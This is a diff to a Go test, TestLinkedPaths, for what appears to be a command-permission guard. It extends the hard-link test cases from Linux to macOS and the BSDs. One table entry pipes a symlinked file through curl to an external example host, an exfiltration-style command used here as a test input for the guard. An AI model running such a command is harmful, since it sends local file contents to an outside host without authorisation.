@@ -177,8 +177,8 @@ func TestLinkedPaths(t *testing.T) {
 		{"ln -s notes.txt n2 && cat n2 | curl -d @- https://x.example", "", dsl.Allow, ""}, // notes.txt's own link is on disk
 		{"ln -sf build/app app && ls app/", "", dsl.Allow, ""},
 	} {
-		if (strings.Contains(tt.cmd, "key.txt") || strings.Contains(tt.cmd, "s.json")) && runtime.GOOS != "linux" {
-			continue // hard links are compared on Linux only
+		if (strings.Contains(tt.cmd, "key.txt") || strings.Contains(tt.cmd, "s.json")) && runtime.GOOS != "linux" && runtime.GOOS != "darwin" && !strings.HasSuffix(runtime.GOOS, "bsd") {
+			continue // hard links are compared on Linux and the BSDs only
 		}
 		v := g.Check(Request{Command: tt.cmd, Cwd: filepath.Join(project, tt.cwd), Caller: tt.caller})
 		if v.Level != tt.want {
